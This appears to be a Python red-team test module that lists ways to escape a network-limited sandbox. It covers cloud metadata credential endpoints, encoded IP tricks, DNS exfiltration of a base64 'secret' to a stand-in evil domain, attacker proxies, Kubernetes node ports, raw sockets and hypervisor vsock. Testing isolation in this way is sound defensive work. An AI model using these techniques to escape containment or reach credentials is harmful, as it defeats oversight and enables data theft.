"""Attacks that go past every proxy. No kind of sandbox with limited networking may succeed."""

import socket
from collections.abc import Iterator
from typing import Any

from redteam.attacks import Attack, row
from redteam.targets import DNS_SERVICE, HOST_PORT, Targets
from support.fake_internet_names import (
    ALLOWED,
    ATTACKER,
    ATTACKER6,
    CDN,
    EVIL,
    NAME_SERVER,
    NODE,
    WORLD,
)

JSON = dict[str, Any]
METADATA = {
    "aws-gcp-azure": "169.254.169.254",
    "aws-containers": "169.254.170.2",
    "aws-pod-identity": "169.254.170.23",
    "azure-wire-server": "168.63.129.16",
    "gke-agent": "169.254.169.252",
    "alibaba": "100.100.100.200",
    "tencent": "169.254.0.23",
    "oracle": "192.0.0.192",
    "aws-6": "fd00:ec2::254",
    "aws-pod-identity-6": "fd00:ec2::23",
    "gcp-6": "fd20:ce::254",
    "oracle-6": "fd00:c1::a9fe:a9fe",
    "scaleway-6": "fd00:42::42",
}
"""The addresses at which clouds tell a machine who it is and hand out its credentials."""
PRIVATE = ("10.50.0.7", "172.16.9.9", "192.168.7.7", "100.64.9.9", "198.18.0.9", "fd12:3456::7")
ODD_PORTS = (1, 22, 25, 53, 80, 110, 465, 587, 853, 3128, 6667, 8080, 8443, 9418, 51820, 65535)
NODE_PORTS = {
    "api-server": 6443,
    "kubelet": 10250,
    "kube-proxy": 10256,
    "controller-manager": 10257,
    "scheduler": 10259,
    "policy-engine": 20244,
}
NODES_LOOPBACK = (2379, 2380, 10248, 10249)
"""What listens on the node's own loopback."""
EXFIL = f"c2VjcmV0.{EVIL}"
"""A name that carries something out when it is merely asked for."""
MPTCP, UDPLITE = 262, 136


def tcp(host: str, port: int, **rest: Any) -> JSON:
    return {"kind": "tcp", "host": host, "port": port, **rest}


def udp(host: str, port: int, **rest: Any) -> JSON:
    return {"kind": "udp", "host": host, "port": port, **rest}


def query(server: str, over: str = "udp", port: int = 53) -> JSON:
    return {"kind": "query", "server": server, "name": EXFIL, "over": over, "port": port}


def tls(host: str, sni: str, port: int = 443) -> JSON:
    return {"kind": "tls", "host": host, "port": port, "sni": sni}


def _metadata() -> Iterator[Attack]:
    for name, address in METADATA.items():
        ports = {"gke-agent": (80, 988), "azure-wire-server": (80, 32526)}.get(name, (80, 443))
        yield row(f"metadata-{name}", *(tcp(address, each) for each in ports))
    yield row("metadata-over-udp", udp("169.254.169.254", 123), udp("169.254.169.253", 4000))


def _outside() -> Iterator[Attack]:
    yield row("literal-address", tls(ATTACKER, EVIL), tcp(ATTACKER, 80))
    yield row("literal-address-6", tls(ATTACKER6, EVIL), tcp(ATTACKER6, 80))
    yield row("an-allowed-sites-address", tls(CDN, ALLOWED), tcp(CDN, 80))
    yield row(
        "literal-address-in-6",
        *(tcp(f"::ffff:{each}", 443) for each in (ATTACKER, "169.254.169.254", "10.50.0.7")),
    )
    yield row("translated-address", tcp("64:ff9b::a9fe:a9fe", 80), tcp("2002:a9fe:a9fe::1", 80))
    forms = ("2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.16689662")
    yield row("encoded-metadata", *(tcp(each, 80) for each in (*forms, "0xa9.0xfe.0xa9.0xfe")))
    yield row("encoded-address", *(tcp(each, 80) for each in ("45.5455938", "0x2d.83.64.66")))
    yield row("odd-ports", *(tcp(ATTACKER, each) for each in ODD_PORTS))
    yield row("udp-and-quic", *(udp(ATTACKER, each) for each in (123, 443, 4500, 33434, 51820)))
    yield row("udp-6", udp(ATTACKER6, 443), udp(ATTACKER6, 4500))
    yield row("private-networks", *(tcp(each, 8080) for each in PRIVATE))
    yield row("the-way-out", tcp(WORLD, 443), udp(WORLD, 443))
    yield row("the-nodes-other-addresses", tcp(NODE, 6443), tcp(NODE, 10256))
    yield row("icmp", {"kind": "ping", "host": ATTACKER}, heard=True)
    yield row("icmp-6", {"kind": "ping", "host": ATTACKER6}, heard=True)
    yield row("mptcp", {"kind": "stream", "host": ATTACKER, "port": 443, "protocol": MPTCP})
    yield row("udp-lite", udp(ATTACKER, 443, protocol=UDPLITE), heard=True)
    yield row("websocket", {"kind": "talk", "host": ATTACKER, "port": 80, "send": UPGRADE})
    yield row(
        "proxies-of-others",
        *({"kind": "wire", "send": f"CONNECT {EVIL}:443 HTTP/1.1\r\n\r\n", "proxy": each}
          for each in (f"{ATTACKER}:3128", f"{ATTACKER}:80")),
    )  # fmt: skip


UPGRADE = (
    f"GET / HTTP/1.1\r\nHost: {EVIL}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)


def _names() -> Iterator[Attack]:
    roads = {"resolver": "8.8.8.8", "authority": ATTACKER, "ours": NAME_SERVER}
    for name, server in roads.items():
        yield row(f"dns-{name}", query(server), query(server, "tcp"), query(server, "tcp", 853))
    yield row("dns-6", tcp(ATTACKER6, 53), tcp("2001:4860:4860::8888", 53))
    yield row("dns-over-https", tls("1.1.1.1", "cloudflare-dns.com"), tls("8.8.8.8", "dns.google"))
    yield row("dns-over-quic", udp("1.1.1.1", 853), udp("8.8.8.8", 443))
    yield row("dns-node-local", query("169.254.20.10"), query("169.254.20.10", "tcp"))
    # No server in the pod is told where to ask: the programs' own way has none to control.
    yield row("dns-as-programs-ask", {"kind": "resolve", "name": EXFIL}, control=_asked)
    yield row("dns-of-the-cluster", udp(DNS_SERVICE, 53))
    yield Attack("dns-of-the-node", lambda t: [query(t.node), query(t.bridge)], _asked)
    # Where nobody else on the link hears it, an answer cannot come; nor may it leave.
    yield row("dns-multicast", udp("224.0.0.251", 5353), udp("224.0.0.252", 5355), control=_asked)


def _asked(_: Targets) -> list[JSON]:
    return [query(NAME_SERVER)]


def _cluster() -> Iterator[Attack]:
    yield Attack("the-api-server", lambda t: [tcp(t.api, 443), tcp(t.node, 6443)])
    for name, port in NODE_PORTS.items():
        yield Attack(
            f"the-nodes-{name}",
            lambda t, port=port: [  # type: ignore[misc]
                tcp(each, port) for each in ({t.node} if port == 10250 else {t.node, t.bridge})
            ],
        )
    yield Attack("node-ports", lambda t: [tcp(t.node, t.node_port)])
    # A port of the host is forwarded where packets come from outside the node, or from pods.
    yield Attack(
        "host-ports",
        lambda t: [tcp(each, HOST_PORT) for each in (t.node, t.bridge)],
        lambda t: [tcp(t.node, HOST_PORT)],
    )
    yield row(
        "the-nodes-loopback",
        *(tcp("127.0.0.1", each) for each in NODES_LOOPBACK),
    )
    yield Attack("other-pods", lambda t: [tcp(t.bystander, 8000), udp(t.bystander, 53)])
    yield Attack("services", lambda t: [tcp(t.service, 80), udp(t.service, 53)])
    yield Attack("another-sandbox", lambda t: [tcp(t.victim, 7443)])
    yield Attack("the-operator", lambda t: [tcp(t.operator, 8443), tcp(t.operator, 8080)])
    yield Attack("the-sessions-api", lambda t: [tcp(t.sessions, 8443)])
    yield Attack(
        "broadcast",
        lambda t: [udp(each, 53, broadcast=True) for each in ("255.255.255.255", _last(t))],
        lambda t: [udp(t.bystander, 53)],
    )
    yield Attack(
        "icmp-within",
        lambda t: [{"kind": "ping", "host": each} for each in (t.bystander, t.node, t.victim)],
        lambda t: [tcp(t.bystander, 8000)],
    )
    # Link-local addresses are there without anybody's having given any. The bundled node has no
    # way to its pods by them: what they would reach is reached at the IPv4 address instead.
    yield Attack(
        "link-local-node",
        lambda t: [tcp(t.node6, each, scope="eth0") for each in NODE_PORTS.values()],
        lambda t: [tcp(t.node, each) for each in NODE_PORTS.values()],
    )
    yield Attack(
        "link-local-pods",
        lambda t: [tcp(t.victim6, 7443, scope="eth0"), tcp(t.bystander6, 8000, scope="eth0"),
                   udp(t.bystander6, 53, scope="eth0"), udp("ff02::1", 53, scope="eth0")],
        lambda t: [tcp(t.victim, 7443), tcp(t.bystander, 8000), udp(t.bystander, 53)],
    )  # fmt: skip


def _last(targets: Targets) -> str:
    """The broadcast address of the pods' network."""
    return ".".join([*targets.bridge.split(".")[:3], "255"])


def _none(_: Targets) -> list[JSON]:
    """Nothing that the node could show to be there."""
    return []


def _kernel() -> Iterator[Attack]:
    inet, packet = int(socket.AF_INET), int(socket.AF_PACKET)
    stream = [{"kind": "raw", "family": inet, "form": int(socket.SOCK_RAW), "protocol": each}
              for each in (1, 6, 17, 255)]  # fmt: skip
    whole = {"kind": "raw", "family": packet, "form": int(socket.SOCK_RAW), "protocol": 768}
    yield row("raw-sockets", *stream, whole)
    # Which of them the node's own kernel has says nothing of the sandbox.
    families = [{"kind": "raw", "family": each, "form": int(socket.SOCK_SEQPACKET), "protocol": 0}
                for each in (30, 38, 40)]  # fmt: skip
    unnamed = [{"kind": "raw", "family": inet, "form": form, "protocol": each}
               for form, each in ((1, 132), (5, 132), (2, UDPLITE), (6, 33))]  # fmt: skip
    yield row("unnamed-sockets", *families, *unnamed, control=_none)
    yield row("rings-of-calls", {"kind": "rings"}, control=_none)
    # Over IPv6 it needs no right; the socket is one of IPv4 where there are no others.
    taken = [
        {"kind": "settable", "level": level, "name": name} for level, name in ((0, 15), (41, 78))
    ]
    yield row("addresses-of-others", *taken, control=_none)
    way: JSON = {"kind": "option", "value": 1, "host": "169.254.169.254", "port": 80}
    mark = {**way, "level": int(socket.SOL_SOCKET), "name": 36}
    transparent = {**way, "level": 0, "name": 19}
    yield row("marks-and-transparency", mark, transparent)
    paths = [f"/proc/{each}/ns/net" for each in (1, "self")]
    yield row("namespaces", *({"kind": "entered", "path": each} for each in paths), control=_none)
    # The control would be a hypervisor; there may be none.
    hosts = [
        {"kind": "vsock", "cid": each, "port": port} for each in (0, 1, 2) for port in (22, 1024)
    ]
    yield row("the-hypervisor", *hosts, control=_none)


_NOT_THE_INTERNET = {
    "private-networks",
    "the-nodes-other-addresses",
    "translated-address",
    "encoded-metadata",
    "dns-node-local",
    "dns-of-the-cluster",
    "dns-of-the-node",
    "dns-multicast",
}

DIRECT = (*_metadata(), *_outside(), *_names(), *_cluster(), *_kernel())
"""All ways out past the gateway."""
INSIDE = (
    *_metadata(),
    *(each for each in (*_outside(), *_names()) if each.name in _NOT_THE_INTERNET),
    *_cluster(),
    *_kernel(),
)
"""Those that lead elsewhere than to the internet."""
